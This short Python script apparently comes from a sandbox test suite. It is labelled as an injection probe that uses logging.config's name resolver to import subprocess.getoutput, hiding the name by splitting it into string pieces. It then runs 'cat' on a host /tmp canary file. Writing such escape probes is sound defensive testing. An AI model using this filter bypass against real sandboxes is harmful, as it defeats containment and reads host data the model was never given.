# family: injection
# filterfamily: dynamic-import
# tries: let logging.config's resolver import a dotted name (the shell-output helper) and print the host /tmp canary
# source: none
# exfil: yes
import logging.config
import sys

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
resolve = logging.config.BaseConfigurator({}).resolve
run = resolve("subpro" + "cess.get" + "output")
print(run("cat " + hosttmp))
